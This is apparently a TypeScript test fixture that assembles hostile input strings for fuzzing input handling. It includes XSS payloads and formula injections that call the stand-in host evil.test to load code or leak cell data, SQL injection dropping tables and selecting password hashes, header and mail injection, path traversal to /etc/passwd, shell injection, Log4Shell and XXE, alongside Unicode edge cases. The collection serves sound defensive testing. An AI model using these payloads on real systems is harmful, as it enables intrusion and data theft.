/**
 * Texts as somebody would send who wants a page, a mail, a query or a spreadsheet to do something: made
 * by combining what breaks out of a place with what does harm there.
 */

const breakouts = [
  '',
  '">',
  "'>",
  '`>',
  '" ',
  '</title>',
  '</textarea>',
  '</option></select>',
  '</style>',
  '</script>',
  '-->',
  ']]>',
  '</td></tr></table>',
  '\\">',
]

const scripts = [
  '<script>alert(1)</script>',
  '<ScRiPt >alert(1)</sCrIpT>',
  '<<script>alert(1);//<</script>',
  '<script src=//evil.test/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<form action=//evil.test><input name=password>',
  '<base href="//evil.test/">',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<style>@import "//evil.test/x.css";</style>',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<div hx-get="/sign-out" hx-trigger="load">x</div>',
  '<div hx-on::load="alert(1)">x</div>',
  '<math><mtext><img src=x onerror=alert(1)>',
]

const attributes = [
  'onmouseover=alert(1)',
  'autofocus onfocus=alert(1)',
  'style=position:fixed;inset:0',
  'hx-get=/sign-out hx-trigger=load',
  'formaction=//evil.test',
].flatMap((attribute) =>
  ['"', "'", '`', '" x="'].map((quote) => `x${quote} ${attribute} y=${quote}`),
)

const encoded = [
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3c;script&#x3e;alert(1)',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '%253Cscript%253Ealert(1)',
  '\\u003cscript\\u003ealert(1)',
  '\\x3cscript\\x3ealert(1)',
  '+ADw-script+AD4-alert(1)',
  '＜script＞alert(1)＜/script＞',
  '&amp;&amp;amp;',
  '&nbsp;&shy;&zwj;',
  'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
]

const templates = [
  '{{7*7}}',
  '${7*7}',
  '<%= 7*7 %>',
  '#{7*7}',
  '${{<%[%\'"}}%\\',
  '{% debug %}',
].flatMap((one) => [one, `a ${one} b`])

const formulas = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '＝',
  '＋',
  '－',
  '＠',
  ' =',
  '"=',
  "'=",
  '%0a=',
].flatMap((start) => [
  `${start}1+1`,
  `${start}SUM(A1:A9)`,
  `${start}HYPERLINK("//evil.test?"&A1)`,
  `${start}cmd|'/c calc'!A0`,
])

/** Of them all, those that are meant for a database. */
export const hostileQueries: readonly string[] = [
  "'",
  "''",
  '"',
  '\\',
  "\\'",
  '%',
  '_',
  '%_%',
  '$1',
  '?',
  ';',
  '--',
  '/*',
].flatMap((one) => [
  one,
  `x${one} or 1=1 --`,
  `x${one}; drop table claim_server.claims; --`,
  `x${one} union select password_hash from core_banking.customers --`,
  `x${one}||pg_sleep(9)||${one}`,
])

const newlines = [
  '\r\n',
  '\n',
  '\r',
  '\u0085',
  '\u2028',
  '\u2029',
  '\v',
  '\f',
  '%0d%0a',
  '\\r\\n',
].flatMap((line) => [
  `x${line}Bcc: evil@evil.test`,
  `x${line}To: evil@evil.test${line}${line}another body`,
  `x${line}Set-Cookie: session=evil`,
  `x${line}RCPT TO:<evil@evil.test>`,
  `x${line}.${line}QUIT`,
])

const addresses = [
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.test',
  '/\\evil.test',
  '\\\\evil.test\\share',
  'https://evil.test@bank.test/',
  'http://127.0.0.1:5432/',
  'file:///etc/passwd',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2fetc%2fpasswd',
  '?next=//evil.test',
  '#" onclick="alert(1)',
]

const commands = [
  '$(reboot)',
  '`reboot`',
  '; reboot',
  '| reboot',
  '&& reboot',
  '> /dev/null',
].flatMap((one) => [one, `x${one}`])

const values = [
  'null',
  'undefined',
  'true',
  'NaN',
  'Infinity',
  '-0',
  '0x10',
  '1e309',
  '9007199254740993',
  '１２３',
  '٣٤٥',
  '1,000',
  '1.000,00',
  '¥1',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '[object Object]',
  '{"a":1}',
  '"}],"x":[{"',
  '%s%n%x',
  '{0}',
  '${jndi:ldap://evil.test/a}',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  '<?xml version="1.0"?><x/>',
  '<?php system("id") ?>',
  '=?utf-8?B?QmNjOiBldmlsQGV2aWwudGVzdA==?=',
  '*bold* _it_ [x](javascript:alert(1))',
  '(){ :; }; reboot',
]

const scriptsOfTheWorld = [
  'ﬁ ﬀ ㍿ ½ ™',
  'İıŞşĞğ',
  'ǅ ǆ ß ẞ',
  'Z̷̢̛̖͔͎͓̝͛͛̈́̄̏͘a̸͚̍l̵̥͋g̶̰̈o̷̞͂',
  'e\u0301 é',
  'ｶﾞ ガ ガ',
  '𠮷野家 髙﨑',
  '葛󠄀城',
  '👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇯🇵',
  '☃️ 1️⃣',
  'العربية עברית',
  '܀܁܂',
  '한글 ㄱㅏ',
  'ก็็็็็็็็็็',
  '﷽',
  '𝕬𝖑𝖊𝖗𝖙',
  '￼ �',
  '・ー〜～‐‑–—',
  '“quotes” „low“ «angle» ‹single›',
  '\u3000 full-width blanks \u3000',
]

const invisible = [
  '\u0000',
  '\u0001',
  '\u0008',
  '\u001b[31m',
  '\u007f',
  '\u009b2J',
  '\u00ad',
  '\u034f',
  '\u061c',
  '\u115f',
  '\u180e',
  '\u200b',
  '\u200d',
  '\u200e',
  '\u200f',
  '\u202a',
  '\u202e',
  '\u2060',
  '\u2066',
  '\u2069',
  '\u2800',
  '\u3164',
  '\ufe0f',
  '\ufeff',
  '\ufffe',
  '\uffff',
  '\ud800',
  '\udc00',
  '\u{e0001}',
  '\u{10ffff}',
].flatMap((one) => [one, `pay${one}ee`, `${one}x`])

const blanks = ['', ' ', '\t', '\u00a0', '\u3000', '\u2003', '\n']

const long = ['x'.repeat(5000), '<'.repeat(140), '"'.repeat(140), '字'.repeat(140), '&'.repeat(41)]

/** At least as many as the best-known public list has. */
export const hostileStrings: readonly string[] = [
  ...new Set([
    ...breakouts.flatMap((breakout) => scripts.map((script) => breakout + script)),
    ...attributes,
    ...encoded,
    ...templates,
    ...formulas,
    ...hostileQueries,
    ...newlines,
    ...addresses,
    ...commands,
    ...values,
    ...scriptsOfTheWorld,
    ...invisible,
    ...blanks,
    ...long,
  ]),
]
